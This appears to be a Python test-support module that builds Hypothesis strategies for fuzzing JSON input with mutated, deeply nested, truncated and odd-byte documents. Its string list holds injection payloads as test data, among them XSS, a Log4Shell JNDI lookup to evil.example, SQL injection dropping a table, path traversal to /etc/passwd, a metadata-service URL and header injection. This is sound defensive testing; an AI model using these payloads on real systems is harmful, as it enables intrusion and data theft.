"""What may stand where something else belongs, and real documents with such things in them."""

from __future__ import annotations

import copy
import json
from typing import Any

from hypothesis import strategies as st

# Would be markup, a template, a second line, a path, a query, a formula, a header.
MARKUP = "<script>alert(1)</script>"
TEXTS = (
    "",
    " ",
    "\0",
    "a\0b",
    "\ud800",
    "\udfff\ud800",
    "\u202egnihton",
    "\ufeff",
    "\r\nX-Injected: yes",
    MARKUP,
    "\"'><img src=x onerror=alert(1)>",
    "{{7*7}}{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "..%2f..%2fme",
    "me",
    "a/b?c=d#e",
    "' OR 1=1; DROP TABLE interviews; --",
    "%00",
    "%s%n{0.__class__}",
    '=HYPERLINK("https://evil.example")',
    "https://evil.example/",
    "https://koji.so@evil.example/",
    "https://koji.so\\@evil.example/",
    "//evil.example",
    "javascript:alert(1)",
    "http://169.254.169.254/latest/meta-data/",
    "file:///etc/passwd",
    "true",
    "null",
    "NaN",
    "1e999",
    "-0",
    "٣",
    "１２",  # noqa: RUF001 - digits that are not ours.
    "9" * 400,
    "2026-13-45T99:99:99Z",
    "0001-01-01T00:00:00+23:59",
    "9999-12-31T23:59:59-23:59",
    "mia@example.com\nBcc: all@example.com",
    "x" * 70_000,
    "🧑‍🚀" * 500,
    "ﷺ" * 300,
    "Z̷̢̛a̷l̸g̵o̶" * 50,
)
SCALARS = (
    None,
    True,
    False,
    0,
    -1,
    1.5,
    -0.0,
    1e308,
    5e-324,
    2**31,
    2**63,
    2**64 + 1,
    10**40,
    -(10**400),
)

text = st.sampled_from(range(len(TEXTS))).map(TEXTS.__getitem__) | st.text(max_size=40)
scalar = st.sampled_from(SCALARS) | text
json_value = st.recursive(
    scalar | st.integers() | st.floats(allow_nan=False, allow_infinity=False),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8) | text, inner, max_size=3)
    ),
    max_leaves=8,
)
# Hypothesis prefers small numbers, so that chances are drawn from a list.
rarely = st.sampled_from([False] * 12 + [True])
sometimes = st.sampled_from([False] * 3 + [True])
# How deep something is nested: what is read recursively, what no longer can be, and what nobody reads.
depth = st.sampled_from([5, 60, 400, 900, 990, 1_500, 20_000, 100_000])


class Raw:
    """Stands for JSON that is put into a document as it is."""

    def __init__(self, written: str) -> None:
        self.written = written

    def __repr__(self) -> str:
        return f"Raw({self.written[:30]}…)"


@st.composite
def nested(draw: st.DrawFn) -> Raw:
    deep = draw(depth)
    begin, end = draw(st.sampled_from([("[", "]"), ('{"a":', "}"), ('[{"id":', "}]")]))
    return Raw(begin * deep + "1" + end * deep)


@st.composite
def mutated(draw: st.DrawFn, document: Any) -> Any:
    """A real document in which up to three things are other ones."""
    changed = copy.deepcopy(document)
    for _ in range(draw(st.integers(0, 3))):
        places = list(_places(changed))
        if not places:
            return changed
        holder, key = draw(st.sampled_from(places))
        way = draw(
            st.sampled_from(["other", "other", "other", "gone", "listed", "renamed", "deep", "larger"])
        )
        if way == "gone":
            del holder[key]
        elif way == "listed":
            holder[key] = [holder[key], draw(scalar)]
        elif way == "renamed" and isinstance(holder, dict):
            holder[draw(text)] = holder.pop(key)
        elif way == "deep":
            holder[key] = draw(nested())
        elif way == "larger":
            holder[key] = {"a": holder[key], **draw(st.dictionaries(text, scalar, max_size=3))}
        else:
            holder[key] = draw(json_value)
    return changed


def written(document: Any, *, plainly: bool = False) -> bytes:
    """As JSON. ``plainly``: letters as they are, also halves of surrogate pairs, which are no UTF-8 then."""
    raws: list[str] = []

    def stand_in(value: Any) -> Any:
        if isinstance(value, Raw):
            raws.append(value.written)
            return f"\x01raw{len(raws) - 1}\x01"
        if isinstance(value, dict):
            return {key: stand_in(one) for key, one in value.items()}
        return [stand_in(one) for one in value] if isinstance(value, list) else value

    found = json.dumps(stand_in(document), ensure_ascii=not plainly)
    for number, raw in enumerate(raws):
        found = found.replace(f'"\\u0001raw{number}\\u0001"', raw)
    return found.encode("utf-8", "surrogatepass")


_KINDS = (*("near",) * 15, "bytes", "any", "deep", "cut", "marked")


@st.composite
def body(draw: st.DrawFn, document: Any) -> bytes:
    """Mostly JSON that is near to a real document, sometimes any JSON, sometimes any bytes."""
    kind = draw(st.sampled_from(_KINDS))
    if kind == "bytes":
        return draw(st.binary(max_size=200))
    if kind == "any":
        return written(draw(json_value))
    if kind == "deep":
        return draw(nested()).written.encode()
    raw = written(draw(mutated(document)), plainly=draw(st.booleans()))
    if kind == "cut":
        cut = draw(st.integers(0, len(raw)))
        return raw[:cut] + draw(st.sampled_from([b"", b"\0", b"\xff", b"}", b"NaN", b'"']))
    if kind == "marked":
        return draw(st.sampled_from([b"\xef\xbb\xbf", b"\xff\xfe", b"\n\n", b")]}',\n"])) + raw
    return raw


def _places(value: Any) -> list[tuple[Any, Any]]:
    """Every holder and key in a document."""
    found: list[tuple[Any, Any]] = []
    inner: list[tuple[Any, Any]] = []
    if isinstance(value, dict):
        inner = [(key, one) for key, one in value.items()]
    elif isinstance(value, list):
        inner = list(enumerate(value))
    for key, one in inner:
        found.append((value, key))
        found += _places(one)
    return found
